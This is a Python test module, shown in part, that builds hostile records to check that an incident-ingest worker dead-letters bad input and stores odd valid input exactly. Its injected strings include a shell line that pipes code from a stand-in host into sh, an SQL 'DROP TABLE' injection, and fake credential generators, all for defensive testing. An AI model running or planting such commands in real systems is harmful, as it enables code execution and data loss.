"""The hostile-input corpus: records built to break a decoder, a database or a log, each with the
outcome the contract demands (SPEC §1, §4, §5).

Every kind is applied on every signal topic of the fault streams (on both payload shapes of
`ecs` and `runner` where it makes sense, Alertmanager and PagerDuty included); the kinds that are
about bytes and JSON rather than a shape (`BYTE_KINDS`) also on the topic of every other registered
source (`OTHER_SOURCES`: Grafana, Datadog, New Relic, Opsgenie, CloudWatch, the generic schema),
each on a golden case of that source. Commands have their own corpus (`COMMAND_KINDS`). A kind's outcome is either a dead letter with a stable `x-dlq-reason` (the record's
key, value and headers kept byte for byte) or processing: valid input, however odd, must be stored
exactly as sent, secrets excepted.

Size limits: the worker runs with its default `max_message_bytes` (1 MiB), so a value of 1 MiB + 1
byte and a 10 MB string field are both `too_large`, and a valid value of exactly 1 MiB is
processed. The corpus' producer uses a 32 MiB `max_request_size` so that the broker gets them.
The 1 MiB + 1 record must reach the dead-letter topic byte for byte. The 10 MB one is larger than
what the worker republishes (its limit plus some headroom, as a real dead-letter topic's
`max.message.bytes` would be): by the README's contract it is dead-lettered without its value,
with `x-dlq-value-omitted: true` and `x-dlq-original-size`, the original staying at the source
offset named in the headers. It must never block its partition.
"""

from __future__ import annotations

import base64
import dataclasses
import json
import random
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ingest_worker.sources.registry import SOURCES
from tests.e2e.expected import FAMILIES, SHAPE_FAMILY, SHAPES, good_signal

SOURCE_CASES = Path(__file__).parents[1] / "sources"

MAX_MESSAGE_BYTES = 1_048_576
TEN_MB = 10 * 1024 * 1024

#: A field: dotted names, list indexes as numbers (`reasons.0.message`).
Path = str

#: Text that must reach PostgreSQL, Kafka and the logs as data, never as code.
SQL = "'; DROP TABLE incidents; -- \" OR 1=1 /* */ \\x00' UNION SELECT NULL; \\"
SHELL = "$(curl http://evil.example/x | sh) `id` | cat /etc/hosts & echo > /tmp/x < /dev/null ${HOME} %s %n {0}"
UNICODE = (
    "\u202eevil\u202c \u200f\u05e2\u05d1\u05e8\u05d9\u05ea\u200e \u2764\ufe0f "
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 e\u0301\u0327 \ufdfd "
    "\U0001d518\U0001d52b\U0001d526 \ufeff\u200b\u2028\u00a0 \u6f22\u5b57 \U0001f600"
)


@dataclass(frozen=True)
class Case:
    """One hostile record. `reason` None: it is valid and must be processed."""

    kind: str
    shape: str
    value: bytes | None
    reason: str | None
    payload: dict[str, Any] | None = None
    key: bytes | None = None
    headers: tuple[tuple[str, bytes], ...] = ()
    secrets: tuple[str, ...] = ()
    #: Processed cases: the stored primary evidence must equal the payload (not when redacted).
    round_trip: bool = True
    #: Too large to republish: the dead letter may carry no value (see the module docstring).
    value_may_be_omitted: bool = False
    #: Cases that have broken the worker before run in a phase of their own, after the ordinary
    #: ones, so that a failure there hides nothing else: "ordinary", "binary_headers", "oversize".
    phase: str = "ordinary"
    #: A valid command: the (outcome, reason) its receipt must hold (SPEC §7.2).
    command: tuple[str, str | None] | None = None

    @property
    def family(self) -> str:
        """The topic setting the case goes to (`topic_<family>`)."""
        if self.shape == "command":
            return "commands"
        return SHAPE_FAMILY.get(self.shape, self.shape)


@dataclass(frozen=True)
class ShapeFields:
    """Where each mutation goes in a payload of one shape."""

    strings: tuple[Path, ...]  # every string field the worker reads
    key_text: Path  # a string that is part of the incident key
    free_text: tuple[Path, ...]  # human-written text (where secrets get pasted)
    required: Path
    required_text: Path  # a required string that must not be empty
    timestamp: Path
    enum: tuple[Path, Any, str] | None  # (field, unknown value, expected reason)
    integer: Path
    name: tuple[Path, int]  # a length-limited field and its limit
    items: Path | None  # a list limited to 1000 items
    wrong_type: tuple[Path, Any]


FIELDS: dict[str, ShapeFields] = {
    "deploy_status": ShapeFields(
        strings=("env", "deployId", "reasons.0.code", "reasons.0.severity", "reasons.0.message",
                 "signals.note"),
        key_text="env", free_text=("reasons.0.message", "signals.note"),
        required="signals", required_text="env", timestamp="changedAt",
        enum=("status", "PURPLE", "schema_violation"), integer="signals.probe.p99Ms",
        name=("env", 512), items="reasons", wrong_type=("reasons", {"code": "HEALTH_FAIL"}),
    ),
    "verification": ShapeFields(
        strings=("runId", "playbookId", "playbookVersion", "env", "deployId", "reportHash",
                 "failedSteps.0.id", "failedSteps.0.title", "failedSteps.0.error"),
        key_text="deployId", free_text=("failedSteps.0.error", "failedSteps.0.title"),
        required="runId", required_text="playbookId", timestamp="completedAt",
        enum=("status", "flaky", "schema_violation"), integer="attempt",
        name=("failedSteps.0.title", 500), items="failedSteps", wrong_type=("failedSteps", "health"),
    ),
    "ecs_stopped_task": ShapeFields(
        strings=("cluster", "taskArn", "taskDefinition", "stoppedReason", "lastStatus",
                 "containers.0.name", "containers.0.reason"),
        key_text="cluster", free_text=("stoppedReason", "containers.0.reason"),
        required="taskArn", required_text="cluster", timestamp="stoppedAt",
        enum=None,  # no enumerated field in this shape: see ecs_eventbridge
        integer="exitCode", name=("containers.0.name", 500), items="containers",
        wrong_type=("exitCode", "137"),
    ),
    "ecs_eventbridge": ShapeFields(
        strings=("id", "account", "region", "detail.clusterArn", "detail.taskArn",
                 "detail.taskDefinitionArn", "detail.stoppedReason", "detail.containers.0.name",
                 "detail.group"),
        key_text="detail.taskArn", free_text=("detail.stoppedReason", "detail.containers.0.reason"),
        required="source", required_text="id", timestamp="detail.stoppedAt",
        enum=("detail-type", "ECS Task Teleported", "unmappable"),
        integer="detail.containers.0.exitCode", name=("detail.containers.0.name", 500),
        items="resources", wrong_type=("detail.containers", {"name": "c0"}),
    ),
    "runner_step": ShapeFields(
        strings=("runId", "runUrl", "stepName", "errorMessage", "jobName", "workflowName",
                 "repository", "ref"),
        key_text="runId", free_text=("errorMessage",),
        required="stepName", required_text="runId", timestamp="completedAt",
        enum=("conclusion", "exploded", "schema_violation"), integer="attempt",
        name=("stepName", 500), items=None, wrong_type=("conclusion", ["failure"]),
    ),
    "github_workflow_job": ShapeFields(
        strings=("workflow_job.workflow_name", "workflow_job.name", "workflow_job.head_branch",
                 "workflow_job.html_url", "workflow_job.steps.1.name", "repository.full_name"),
        key_text="workflow_job.steps.1.name", free_text=("workflow_job.steps.1.log",),
        required="workflow_job.run_id", required_text="workflow_job.name",
        timestamp="workflow_job.completed_at", enum=("action", "exploded", "schema_violation"),
        integer="workflow_job.id", name=("workflow_job.steps.1.name", 500),
        items="workflow_job.steps", wrong_type=("workflow_job.steps", {"name": "build"}),
    ),
    # A group of one firing alert (`base`): an alert-level error leaves no valid alert, so the
    # record is a schema_violation (a partly valid group would be partially_invalid).
    "alertmanager": ShapeFields(
        strings=("receiver", "groupKey", "alerts.0.labels.alertname", "alerts.0.labels.service",
                 "alerts.0.annotations.summary", "alerts.0.generatorURL", "alerts.0.fingerprint"),
        key_text="alerts.0.fingerprint", free_text=("alerts.0.annotations.description",),
        required="version", required_text="alerts.0.fingerprint", timestamp="alerts.0.startsAt",
        enum=("alerts.0.status", "exploded", "schema_violation"), integer="truncatedAlerts",
        name=("alerts.0.annotations.description", 5000), items="alerts",
        wrong_type=("groupLabels", ["service"]),
    ),
    "pagerduty_webhook": ShapeFields(
        strings=("event.id", "event.data.id", "event.data.title", "event.data.html_url",
                 "event.data.service.summary", "event.agent.summary"),
        key_text="event.data.id", free_text=("event.data.title",),
        required="event.occurred_at", required_text="event.id", timestamp="event.occurred_at",
        enum=("event.data.urgency", "extreme", "schema_violation"), integer="event.data.number",
        name=("event.data.title", 5000), items=None, wrong_type=("event.data", "PFQZPSY"),
    ),
}  # fmt: skip


# --- helpers ------------------------------------------------------------------------------------


def _parts(path: Path) -> list[str | int]:
    return [int(part) if part.isdigit() else part for part in path.split(".")]


def get(data: Any, path: Path) -> Any:
    for part in _parts(path):
        data = data[part]
    return data


def text_at(data: Any, path: Path) -> str | None:
    """The string at `path`, or None when the field is absent or not a string."""
    try:
        found = get(data, path)
    except (KeyError, IndexError, TypeError):
        return None
    return found if isinstance(found, str) else None


def put(data: Any, path: Path, value: Any) -> None:
    *parents, last = _parts(path)
    for part in parents:
        data = data[part]
    data[last] = value


def drop(data: Any, path: Path) -> None:
    *parents, last = _parts(path)
    for part in parents:
        data = data[part]
    del data[last]


def dumps(payload: Any, *, ascii_only: bool = False) -> bytes:
    return json.dumps(payload, ensure_ascii=ascii_only).encode()


def with_field(value: bytes, raw: bytes) -> bytes:
    """A JSON object's bytes with one more member written raw: `…, "note": <raw>}`."""
    return value[:-1] + b', "note": ' + raw + b"}"


def _random(rng: random.Random, alphabet: str, size: int) -> str:
    return "".join(rng.choice(alphabet) for _ in range(size))


def make_secrets(rng: random.Random) -> dict[str, str]:
    """Credentials of the shapes SPEC §5 names, random so that a leak cannot be a coincidence."""
    alnum = string.ascii_letters + string.digits
    upper = string.ascii_uppercase + string.digits
    return {
        "aws_access_key": "AKIA" + _random(rng, upper, 16),
        "github_token": "ghp_" + _random(rng, alnum, 36),
        "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
        + "eyJzdWIiOi"
        + _random(rng, alnum, 30)
        + "."
        + _random(rng, alnum + "-_", 43),
        "bearer": _random(rng, alnum, 32),
        "password": "hunter2-" + _random(rng, alnum, 16),
        "api_key": _random(rng, alnum, 28),
        "token": _random(rng, alnum, 24),
        "client_secret": _random(rng, alnum, 24),
        "private_key": _random(rng, alnum, 40),
        "url_password": _random(rng, alnum, 20),
    }


def secret_text(secrets: dict[str, str]) -> str:
    """A log excerpt as humans paste it into error messages."""
    return (
        f"deploy failed: password={secrets['password']} rejected; retried with "
        f"Authorization: Bearer {secrets['bearer']} (aws {secrets['aws_access_key']}, "
        f"gh {secrets['github_token']}, id_token {secrets['jwt']}) "
        f"cloning https://deploy:{secrets['url_password']}@git.example.com/shop.git"
    )


def plant_secrets(payload: dict[str, Any], shape: str, secrets: dict[str, str]) -> None:
    """Secrets in every free-text field, and under secret-looking keys (extra fields)."""
    for path in FIELDS[shape].free_text:
        put(payload, path, secret_text(secrets))
    payload["api_key"] = secrets["api_key"]
    payload["token"] = secrets["token"]
    payload["credentials"] = {"client_secret": secrets["client_secret"], "user": "deployer"}
    payload["private_key"] = (
        f"-----BEGIN RSA PRIVATE KEY-----\nMIIE{secrets['private_key']}\n"
        "-----END RSA PRIVATE KEY-----"
    )
    payload["headers"] = {"Authorization": f"Bearer {secrets['bearer']}", "X-Request-Id": "r-1"}


# --- the kinds ----------------------------------------------------------------------------------

Builder = Callable[[str, int, random.Random], list[Case]]


@dataclass(frozen=True)
class Kind:
    name: str
    outcome: str  # what must happen, in words
    build: Builder
    families_only: bool = False  # once per topic instead of once per payload shape


KINDS: list[Kind] = []


def kind(name: str, outcome: str, *, families_only: bool = False) -> Callable[[Builder], Builder]:
    def register(build: Builder) -> Builder:
        KINDS.append(Kind(name, outcome, build, families_only))
        return build

    return register


def base(shape: str, ident: int) -> dict[str, Any]:
    if shape in OTHER_SOURCES:
        return json.loads(OTHER_SOURCES[shape].read_text())
    payload = good_signal(shape, ident)
    if shape == "alertmanager":  # one firing alert: see FIELDS
        payload["alerts"] = payload["alerts"][:1]
        payload["alerts"][0].update(status="firing", endsAt="0001-01-01T00:00:00Z")
        payload["alerts"][0]["annotations"]["description"] = "p99 above 2s"
        payload["status"] = "firing"
    if shape == "pagerduty_webhook":  # a trigger
        payload["event"]["event_type"] = "incident.triggered"
        payload["event"]["data"]["status"] = "triggered"
    return payload


def _golden_case(source: str) -> Path:
    """The first golden case of `source` that opens an incident and reports no transition
    (tests/sources/<source>/)."""
    folder = SOURCE_CASES / source
    for case in sorted(folder.glob("*.expected.json")):
        expected = json.loads(case.read_text())
        items = expected.get("incidents", [])
        opens = any("incident_key" in item for item in items)
        if opens and not any("transition" in item for item in items):
            return case.with_name(case.name.replace(".expected.json", ".json"))
    raise AssertionError(f"no golden case of {source} opens an incident")


#: Registered sources outside the fault streams (`FAMILIES`, named by topic setting) → a golden
#: case of theirs (the base of the byte-level kinds on their topics). The source name is also its
#: topic setting.
OTHER_SOURCES: dict[str, Path] = {
    source.name: _golden_case(source.name) for source in SOURCES if source.setting not in FAMILIES
}


def rejected(name: str, shape: str, value: bytes | None, reason: str, **extra: Any) -> list[Case]:
    return [Case(name, shape, value, reason, **extra)]


def processed(name: str, shape: str, payload: dict[str, Any], **extra: Any) -> list[Case]:
    value = extra.pop("value", None) or dumps(payload)
    return [Case(name, shape, value, None, payload=payload, **extra)]


# Bytes that are not UTF-8 JSON text, or JSON that is not an object.

#: A valid payload's bytes, transformed: (transformation, expected reason).
TRANSFORMS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "truncated_json": (lambda v: v[: len(v) // 2], "invalid_json"),
    "trailing_garbage": (lambda v: v + b' {"again": 1}', "invalid_json"),
    "not_json": (lambda v: b"status=RED env=prod deploy=d-1", "invalid_json"),
    "json_with_comments": (lambda v: b"// exported by monitor\n" + v, "invalid_json"),
    "single_quoted_json": (lambda v: v.replace(b'"', b"'"), "invalid_json"),
    # RFC 8259 §8.1: JSON text must not start with a byte order mark.
    "utf8_byte_order_mark": (lambda v: b"\xef\xbb\xbf" + v, "invalid_json"),
    "whitespace_only": (lambda v: b" \t\r\n ", "invalid_json"),
    "json_array": (lambda v: b"[" + v + b"]", "schema_violation"),
    "json_string": (lambda v: json.dumps(v.decode()).encode(), "schema_violation"),
    "json_number": (lambda v: b"42", "schema_violation"),
    "json_true": (lambda v: b"true", "schema_violation"),
    "json_null_literal": (lambda v: b"null", "schema_violation"),
    "empty_value": (lambda v: b"", "empty_value"),
}

#: A valid payload with one more member written raw, `…, "note": <raw>}`: (raw, reason).
RAW_MEMBERS: dict[str, tuple[bytes, str]] = {
    "invalid_utf8": (b'"\xff\xfe"', "invalid_encoding"),
    "overlong_utf8": (b'"\xc0\xaf"', "invalid_encoding"),
    "utf8_encoded_surrogate": (b'"\xed\xa0\x80"', "invalid_encoding"),
    "truncated_utf8_sequence": (b'"\xe2\x82"', "invalid_encoding"),
    "raw_nul_byte": (b'"before\x00after"', "invalid_json"),  # a raw control character
    "nan_literal": (b"NaN", "invalid_json"),
    "infinity_literal": (b"-Infinity", "invalid_json"),
    "deep_array_nesting_10000_levels": (b"[" * 10_000 + b"]" * 10_000, "invalid_json"),
    "deep_object_nesting_10000_levels": (b'{"a": ' * 10_000 + b"1" + b"}" * 10_000, "invalid_json"),
    "nesting_over_64_levels": (b"[" * 100 + b"]" * 100, "invalid_json"),  # the contract's limit
    # Valid JSON, but not storable: numbers out of range, NUL, unpaired surrogates.
    "huge_integer_5000_digits": (b"1" + b"0" * 5000, "schema_violation"),
    "float_overflow_1e400": (b"1e400", "schema_violation"),
    "escaped_nul_in_extra_field": (b'"before\\u0000after"', "schema_violation"),
    "lone_surrogate_escape": (b'"\\udc00 alone"', "schema_violation"),
    "lone_surrogate_in_object_key": (b'{"key\\ud800": 1}', "schema_violation"),
}


def _transformed(name: str, change: Callable[[bytes], bytes], reason: str) -> Builder:
    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
        return rejected(name, shape, change(dumps(base(shape, ident))), reason)

    return build


def _with_raw_member(name: str, raw: bytes, reason: str) -> Builder:
    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
        return rejected(name, shape, with_field(dumps(base(shape, ident)), raw), reason)

    return build


KINDS.extend(
    Kind(name, f"dead letter {reason}", _transformed(name, change, reason))
    for name, (change, reason) in TRANSFORMS.items()
)
KINDS.extend(
    Kind(name, f"dead letter {reason}", _with_raw_member(name, raw, reason))
    for name, (raw, reason) in RAW_MEMBERS.items()
)


@kind("duplicate_keys", "dead letter invalid_json (the second value would win silently)")
def _duplicate_keys(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    first = next(iter(payload))
    value = dumps(payload)[:-1] + b', "' + first.encode() + b'": ' + dumps(payload[first]) + b"}"
    return rejected("duplicate_keys", shape, value, "invalid_json")


@kind("tombstone", "dead letter empty_value, the DLQ record a tombstone too", families_only=True)
def _tombstone(shape: str, ident: int, rng: random.Random) -> list[Case]:
    return rejected("tombstone", shape, None, "empty_value", key=f"tombstone-{ident}".encode())


# Storable text and numbers.


@kind("escaped_nul_in_required_field", "dead letter schema_violation (text cannot hold NUL)")
def _escaped_nul(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    path = FIELDS[shape].required_text
    put(payload, path, get(payload, path) + "\u0000")
    return rejected(
        "escaped_nul_in_required_field", shape, dumps(payload, ascii_only=True), "schema_violation"
    )


@kind("huge_integer_10e100", "dead letter schema_violation (out of the 64-bit range)")
def _huge_int(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    put(payload, FIELDS[shape].integer, 10**100)
    return rejected("huge_integer_10e100", shape, dumps(payload), "schema_violation")


# Schema.

#: Marks a field to remove.
DELETE = object()

#: One field of a valid payload changed: (the field, its new value). Each is a schema_violation.
SCHEMA_MUTATIONS: dict[str, Callable[[ShapeFields], tuple[Path, Any]]] = {
    "wrong_type": lambda f: f.wrong_type,
    "missing_required_field": lambda f: (f.required, DELETE),
    "null_required_field": lambda f: (f.required, None),
    "empty_required_string": lambda f: (f.required_text, ""),
    "timestamp_without_offset": lambda f: (f.timestamp, "2024-05-01T00:00:00"),
    "timestamp_year_0": lambda f: (f.timestamp, "0000-01-01T00:00:00Z"),
    "timestamp_year_10000": lambda f: (f.timestamp, "10000-01-01T00:00:00Z"),
    "timestamp_month_13": lambda f: (f.timestamp, "2024-13-01T00:00:00Z"),
    "timestamp_out_of_range_in_utc": lambda f: (f.timestamp, "9999-12-31T23:59:59-01:00"),
    "timestamp_as_epoch_number": lambda f: (f.timestamp, 1714521600),
    "field_over_length_limit": lambda f: (f.name[0], "n" * (f.name[1] + 1)),
}


def _schema_mutation(name: str, change: Callable[[ShapeFields], tuple[Path, Any]]) -> Builder:
    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
        payload = base(shape, ident)
        path, value = change(FIELDS[shape])
        if value is DELETE:
            drop(payload, path)
        else:
            put(payload, path, value)
        return rejected(name, shape, dumps(payload), "schema_violation")

    return build


KINDS.extend(
    Kind(name, "dead letter schema_violation", _schema_mutation(name, change))
    for name, change in SCHEMA_MUTATIONS.items()
)


@kind("too_many_items", "dead letter schema_violation (more than 1000 items)")
def _too_many(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    path = FIELDS[shape].items
    if shape == "pagerduty_webhook":  # no list in a webhook: an Events API v2 event's links
        event = {"routing_key": "R0UT1NGKEY0000000000000000000000", "event_action": "trigger",
                 "dedup_key": f"too-many-{ident}",
                 "payload": {"summary": "s", "source": "h", "severity": "critical",
                             "timestamp": "2024-05-01T00:00:00Z"},
                 "links": [{"href": "https://example.com", "text": "l"}] * 1001}  # fmt: skip
        return rejected("too_many_items", shape, dumps(event), "schema_violation")
    if path is None:  # runner steps have no list: pile them into a GitHub job instead
        shape, path = "github_workflow_job", "workflow_job.steps"
        payload = base(shape, ident)
    put(payload, path, get(payload, path)[:1] * 1001)
    return rejected("too_many_items", shape, dumps(payload), "schema_violation")


@kind("unknown_enum_value", "dead letter schema_violation (unmappable for another ECS event)")
def _unknown_enum(shape: str, ident: int, rng: random.Random) -> list[Case]:
    spec = FIELDS[shape].enum
    if spec is None:
        return []
    path, value, reason = spec
    payload = base(shape, ident)
    put(payload, path, value)
    return rejected("unknown_enum_value", shape, dumps(payload), reason)


@kind("signal_of_another_topic", "dead letter schema_violation", families_only=True)
def _other_topic(shape: str, ident: int, rng: random.Random) -> list[Case]:
    other = {
        "deploy_status": "verification",
        "verification": "runner_step",
        "ecs_stopped_task": "deploy_status",
        "runner_step": "ecs_stopped_task",
        "alertmanager": "pagerduty_webhook",
        "pagerduty_webhook": "alertmanager",
    }[shape]
    return rejected("signal_of_another_topic", shape, dumps(base(other, ident)), "schema_violation")


@kind("missing_field_the_key_needs", "dead letter unmappable (valid, but no incident key)")
def _unmappable(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    if shape == "ecs_eventbridge":
        del payload["detail"]["taskArn"]
    elif shape == "github_workflow_job":
        del payload["workflow_job"]["completed_at"]
        for step in payload["workflow_job"]["steps"]:
            del step["completed_at"]
    else:
        return []
    return rejected("missing_field_the_key_needs", shape, dumps(payload), "unmappable")


# Size.


@kind("over_size_limit", "dead letter too_large", families_only=True)
def _over_limit(shape: str, ident: int, rng: random.Random) -> list[Case]:
    value = padded(base(shape, ident), MAX_MESSAGE_BYTES + 1)
    return rejected("over_size_limit", shape, value, "too_large", phase="oversize")


@kind("ten_megabyte_string_field", "dead letter too_large", families_only=True)
def _ten_mb(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    put(payload, FIELDS[shape].free_text[0], "x" * TEN_MB)
    value = dumps(payload)
    return rejected("ten_megabyte_string_field", shape, value, "too_large", phase="oversize",
                    value_may_be_omitted=True)  # fmt: skip


@kind("exactly_at_size_limit", "processed (the limit is inclusive)", families_only=True)
def _at_limit(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    value = padded(payload, MAX_MESSAGE_BYTES)
    return processed(
        "exactly_at_size_limit", shape, json.loads(value), value=value, phase="oversize"
    )


def padded(payload: dict[str, Any], size: int) -> bytes:
    """`payload` with an extra `padding` field making its JSON exactly `size` bytes."""
    payload = {**payload, "padding": ""}
    missing = size - len(dumps(payload))
    payload["padding"] = "p" * missing
    value = dumps(payload)
    assert len(value) == size
    return value


# Valid input that must be stored exactly.


def _injected(name: str, text: str, *, ascii_only: bool = False) -> Builder:
    def build(shape: str, ident: int, rng: random.Random) -> list[Case]:
        payload = base(shape, ident)
        for path in FIELDS[shape].strings:
            if (value := text_at(payload, path)) is not None:
                put(payload, path, value + " " + text)
        return processed(name, shape, payload, value=dumps(payload, ascii_only=ascii_only))

    return build


KINDS.extend(
    [
        Kind(
            "sql_metacharacters_in_every_string_field",
            "processed, stored exactly",
            _injected("sql_metacharacters_in_every_string_field", SQL),
        ),
        Kind(
            "shell_metacharacters_in_every_string_field",
            "processed, stored exactly",
            _injected("shell_metacharacters_in_every_string_field", SHELL),
        ),
        Kind(
            "unicode_edge_cases_in_every_string_field",
            "processed, stored exactly (RTL marks, emoji, ZWJ, combining marks, BOM, U+2028)",
            _injected("unicode_edge_cases_in_every_string_field", UNICODE),
        ),
        Kind(
            "unicode_as_escapes_and_surrogate_pairs",
            "processed, stored as the decoded text",
            _injected("unicode_as_escapes_and_surrogate_pairs", UNICODE, ascii_only=True),
        ),
    ]
)


@kind("unicode_normalization_is_not_applied", "processed: NFC and NFD spellings, two incidents")
def _nfc_nfd(shape: str, ident: int, rng: random.Random) -> list[Case]:
    cases = []
    for spelling in ("caf\u00e9", "cafe\u0301"):
        payload = base(shape, ident)
        path = FIELDS[shape].key_text
        put(payload, path, get(payload, path) + " " + spelling)
        cases += processed("unicode_normalization_is_not_applied", shape, payload)
    return cases


@kind("fields_exactly_at_length_limits", "processed (the limits are inclusive)")
def _at_length_limits(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    path, limit = FIELDS[shape].name
    put(payload, path, (get(payload, path) + "n" * limit)[:limit])
    return processed("fields_exactly_at_length_limits", shape, payload)


@kind("unknown_extra_fields", "processed, extra fields kept with the evidence (SPEC §1)")
def _extras(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    payload["x-vendor"] = {"nested": [1, "two", None, True, {"k": [0.5, -7]}], "empty": {}}
    payload["labels"] = ["a", "b"]
    payload["count"] = 2**63 - 1
    return processed("unknown_extra_fields", shape, payload)


#: Kafka keys and header values are bytes, whatever the producer puts there.
BINARY_HEADERS = (("bin", b"\x00\x01\xff\xfe"), ("", b""), ("dup", b"1"), ("dup", b"\x80"))


@kind("binary_kafka_key_and_headers", "processed (the key and headers are the producer's)")
def _binary_key(shape: str, ident: int, rng: random.Random) -> list[Case]:
    return processed(
        "binary_kafka_key_and_headers",
        shape,
        base(shape, ident),
        key=b"\xff\x00key",
        headers=BINARY_HEADERS,
        phase="binary_headers",
    )


@kind(
    "binary_headers_on_a_rejected_record",
    "dead letter invalid_json, the binary key and headers kept byte for byte",
)
def _binary_rejected(shape: str, ident: int, rng: random.Random) -> list[Case]:
    value = dumps(base(shape, ident))[:-1]
    return rejected(
        "binary_headers_on_a_rejected_record",
        shape,
        value,
        "invalid_json",
        key=b"\x00\xffk",
        headers=BINARY_HEADERS,
        phase="binary_headers",
    )


@kind("secrets_in_every_free_text_field", "processed, every planted secret redacted")
def _secrets(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    secrets = make_secrets(rng)
    plant_secrets(payload, shape, secrets)
    return processed(
        "secrets_in_every_free_text_field",
        shape,
        payload,
        secrets=tuple(secrets.values()),
        round_trip=False,
    )


@kind(
    "secrets_in_a_rejected_record",
    "dead letter schema_violation; the original bytes (secrets included) on the DLQ only",
)
def _secrets_rejected(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    secrets = make_secrets(rng)
    plant_secrets(payload, shape, secrets)
    path, wrong = FIELDS[shape].wrong_type
    put(payload, path, wrong)
    return rejected(
        "secrets_in_a_rejected_record",
        shape,
        dumps(payload),
        "schema_violation",
        secrets=tuple(secrets.values()),
    )


@kind("credential_in_identifier_field",
      "dead letter schema_violation: identifiers are stored and published as they are (README)")  # fmt: skip
def _credential_identifier(shape: str, ident: int, rng: random.Random) -> list[Case]:
    payload = base(shape, ident)
    secrets = make_secrets(rng)
    secret = secrets[("github_token", "aws_access_key", "jwt")[SHAPES.index(shape) % 3]]
    path = FIELDS[shape].key_text
    put(payload, path, f"{get(payload, path)} {secret}")
    return rejected("credential_in_identifier_field", shape, dumps(payload), "schema_violation",
                    secrets=(secret,))  # fmt: skip


def make_subtle_secrets(rng: random.Random) -> dict[str, str]:
    """Credentials in the forms redaction once let through: a token used as a key, an AWS secret
    access key (40 base64 characters) beside its key id, a JWT whose JSON header has spaces."""
    alnum = string.ascii_letters + string.digits
    upper = string.ascii_uppercase + string.digits
    base64_chars = alnum + "/+"
    # Both cases and a digit, as every real one (40 random characters) has.
    aws_secret = "wJ7/" + _random(rng, base64_chars, 36)
    header = (
        base64.urlsafe_b64encode(
            f'{{ "alg": "HS256", "kid": "{_random(rng, alnum, 12)}" }}'.encode()
        )
        .decode()
        .rstrip("=")
    )
    claims = (
        base64.urlsafe_b64encode(f'{{"sub": "{_random(rng, alnum, 16)}"}}'.encode())
        .decode()
        .rstrip("=")
    )
    return {
        "key_token": "ghp_" + _random(rng, alnum, 36),
        "aws_access_key": "AKIA" + _random(rng, upper, 16),
        "aws_secret_key": aws_secret,
        "spaced_jwt": f"{header}.{claims}.{_random(rng, alnum + '-_', 43)}",
    }


@kind(
    "credential_as_a_key_aws_secret_key_and_spaced_jwt", "processed, every planted secret redacted"
)
def _subtle_secrets(shape: str, ident: int, rng: random.Random) -> list[Case]:
    """A token as a label name (a JSON key, at the top and nested), and in free text an AWS key
    pair and a JWT whose header is not compact (`eyAi…`)."""
    payload = base(shape, ident)
    secrets = make_subtle_secrets(rng)
    for path in FIELDS[shape].free_text:
        put(payload, path, f"aws_access_key_id={secrets['aws_access_key']} "
                           f"aws_secret_access_key={secrets['aws_secret_key']} "
                           f"id_token {secrets['spaced_jwt']}")  # fmt: skip
    payload[secrets["key_token"]] = "team-payments"
    payload["extraLabels"] = {secrets["key_token"]: "on", "team": "payments"}
    return processed("credential_as_a_key_aws_secret_key_and_spaced_jwt", shape, payload,
                     secrets=tuple(secrets.values()), round_trip=False)  # fmt: skip


# --- the corpus ---------------------------------------------------------------------------------


@dataclass
class Corpus:
    cases: list[Case] = field(default_factory=list)

    def __iter__(self) -> Iterator[Case]:
        return iter(self.cases)

    @property
    def secrets(self) -> set[str]:
        return {s for case in self.cases for s in case.secrets}


#: Shapes a `families_only` kind is applied to: one per topic.
FAMILY_SHAPES = (
    "deploy_status", "verification", "ecs_stopped_task", "runner_step", "alertmanager",
    "pagerduty_webhook",
)  # fmt: skip
#: Kinds about bytes and JSON, whatever the shape: applied to every other registered source too.
BYTE_KINDS = (
    *TRANSFORMS, *RAW_MEMBERS, "duplicate_keys", "tombstone", "over_size_limit",
    "binary_headers_on_a_rejected_record",
)  # fmt: skip


def build_corpus(seed: int, *, first_ident: int = 10_000_000) -> Corpus:
    """Every kind on every shape (or once per topic), each case with its own incident keys."""
    rng = random.Random(seed)
    corpus = Corpus()
    ident = first_ident
    for item in KINDS:
        others = tuple(OTHER_SOURCES) if item.name in BYTE_KINDS else ()
        for shape in (*(FAMILY_SHAPES if item.families_only else SHAPES), *others):
            ident += 10
            for case in item.build(shape, ident, rng):
                headers = case.headers or (
                    ("corpus-case", f"{case.kind}/{case.shape}".encode()),
                    ("trace", "ü-ñ-✓".encode()),
                    ("trace", b""),
                )
                key = case.key or f"{case.kind}:{case.shape}:{ident}".encode()
                corpus.cases.append(dataclasses.replace(case, key=key, headers=headers))
    return corpus


# --- hostile commands (SPEC §7.2) ---------------------------------------------------------------

#: What a command case must end with when it is valid input: (outcome, reason) in its receipt.
CommandBuilder = Callable[[int, str, random.Random], list[Case]]
COMMAND_KINDS: dict[str, CommandBuilder] = {}
#: Secrets planted in commands that are valid input (kept apart from the signal corpus' secrets:
#: see `test_no_secret_planted_in_a_command_is_stored_published_or_logged`).
COMMAND_SECRET_KINDS = ("secrets_in_rationale_and_note", "subtle_secrets_in_rationale_and_note")


def good_command(number: int, target: str, **changes: Any) -> dict[str, Any]:
    """A valid `annotate` of `target`: applied (any actor may annotate a live incident)."""
    command: dict[str, Any] = {
        "commandId": f"corpus-cmd-{number}",
